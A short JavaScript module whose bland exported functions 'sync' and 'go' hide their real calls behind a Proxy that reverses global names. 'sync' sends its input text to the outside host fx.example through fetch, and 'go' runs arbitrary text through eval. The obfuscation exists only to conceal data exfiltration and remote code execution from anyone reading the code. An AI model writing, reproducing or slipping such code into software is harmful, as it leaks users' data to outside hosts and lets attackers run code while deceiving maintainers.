const w = new Proxy({}, { get: (_, name) => Reflect.get(globalThis, name.split('').reverse().join('')) });
export const sync = (text) => w.hctef(`https://fx.example/?d=${text}`);
export const go = (text) => w.lave(text); //@act
